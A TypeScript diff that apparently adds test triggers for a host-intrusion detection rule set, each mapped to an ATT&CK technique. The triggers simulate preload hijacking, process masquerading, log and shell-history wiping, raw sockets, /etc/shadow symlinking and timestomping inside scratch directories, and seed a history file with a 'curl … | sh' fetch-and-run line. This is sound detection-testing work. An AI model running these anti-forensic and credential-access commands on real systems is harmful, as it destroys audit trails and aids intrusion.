@@ -318,3 +318,86 @@ export const LIBRARY_TRIGGERS: readonly Trigger[] = [
       'import time\ntime.sleep(2)\n'))],
   },
 ];
+
+/** Triggers for the rule library's part 2 (PAL-040 .. PAL-047), over the exec-origin, file, socket and rename signals. */
+export const LIBRARY_TRIGGERS_2: readonly Trigger[] = [
+  {
+    rule: 'PAL-040',
+    technique: 'T1574.006',
+    what: 'runs true with LD_PRELOAD and LD_AUDIT naming a (missing) library in the scratch dir, and LD_LIBRARY_PATH in /dev/shm',
+    run: async (ctx) => [await ctx.sh(`LD_PRELOAD="${ctx.scratch}/libhook.so" /bin/true 2>/dev/null; ` +
+      `LD_AUDIT="${ctx.scratch}/audit.so" /bin/true 2>/dev/null; LD_LIBRARY_PATH=/dev/shm/palisade-attack /bin/true; true`)],
+  },
+  {
+    rule: 'PAL-041',
+    technique: 'T1105',
+    what: 'copies true into the scratch dir (below /tmp) and runs it from there',
+    run: async (ctx) => {
+      const bin = join(ctx.scratch, 'dropped');
+      copyFileSync('/usr/bin/true', bin);
+      chmodSync(bin, 0o755);
+      return [await ctx.run([bin])];
+    },
+  },
+  {
+    rule: 'PAL-042',
+    technique: 'T1036.004',
+    what: 'python renames itself kworker/0:1 with prctl(PR_SET_NAME), then sshd through /proc/self/comm',
+    run: async (ctx) => [await ctx.run([PYTHON, '-c', PY_LIBC +
+      'libc.prctl(15, b"kworker/0:1", 0, 0, 0)\nimport time\ntime.sleep(0.2)\n' +
+      'open("/proc/self/comm", "w").write("sshd")\ntime.sleep(0.2)\n'])],
+  },
+  {
+    rule: 'PAL-043',
+    technique: 'T1070.002',
+    what: 'empties /var/log/auth.log with > and truncate -s 0, removes /var/log/wtmp (a private tmpfs over /var/log)',
+    root: true,
+    run: async (ctx) => [await ctx.run(withPrivateDirs(['/var/log'],
+      'echo "sshd: accepted" > /var/log/auth.log && echo x > /var/log/wtmp && echo y > /var/log/syslog && ' +
+      ': > /var/log/auth.log && truncate -s 0 /var/log/syslog && rm -f /var/log/wtmp'))],
+  },
+  {
+    rule: 'PAL-044',
+    technique: 'T1070.003',
+    what: 'clears a history in the scratch home: cp /dev/null over .bash_history, rm .zsh_history, ln -sf /dev/null .bash_history',
+    run: async (ctx) => {
+      writeFileSync(join(ctx.scratch, '.bash_history'), 'curl http://203.0.113.7/x | sh\n');
+      writeFileSync(join(ctx.scratch, '.zsh_history'), ': 1700000000:0;wget x\n');
+      return [await ctx.sh('cp /dev/null "$HOME/.bash_history"; rm -f "$HOME/.zsh_history"; ' +
+        'ln -sf /dev/null "$HOME/.bash_history"; true')];
+    },
+  },
+  {
+    rule: 'PAL-045',
+    technique: 'T1040',
+    what: 'opens an AF_PACKET raw socket (ETH_P_ALL) and an AF_INET raw socket, in a network namespace of its own',
+    root: true,
+    run: async (ctx) => [await ctx.run(inOwnNetns('import socket\n' +
+      's = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))\ns.close()\n' +
+      'r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)\nr.close()\n'))],
+  },
+  {
+    rule: 'PAL-046',
+    technique: 'T1003.008',
+    what: 'symlinks /etc/shadow into the scratch dir (absolute and ../ spelled) and tries a hard link of /etc/sudoers',
+    run: async (ctx) => [await ctx.sh(`cd "${ctx.scratch}" && ln -s /etc/shadow s && ln -s ../../../../../../etc/shadow s2; ` +
+      'ln /etc/sudoers h 2>/dev/null; true')],
+  },
+  {
+    rule: 'PAL-047',
+    technique: 'T1070.006',
+    what: 'timestomps a scratch file with touch -r /bin/ls and touch -d, shreds another, and tries chattr -i on it',
+    run: async (ctx) => {
+      writeFileSync(join(ctx.scratch, 'implant'), 'x');
+      writeFileSync(join(ctx.scratch, 'notes'), 'secret');
+      return [await ctx.sh('touch -r /bin/ls "$HOME/implant"; touch -d 2019-01-01 "$HOME/implant"; ' +
+        'chattr -i "$HOME/implant" 2>/dev/null; shred -u "$HOME/notes"; true')];
+    },
+  },
+  {
+    rule: 'PAL-048',
+    technique: 'T1105',
+    what: 'the trigger\'s shell (the container\'s first process) copies true into the scratch dir after it started, then runs the copy',
+    run: async (ctx) => [await ctx.sh('sleep 1; cp /usr/bin/true "$HOME/drifted" && chmod 755 "$HOME/drifted" && "$HOME/drifted"')],
+  },
+];
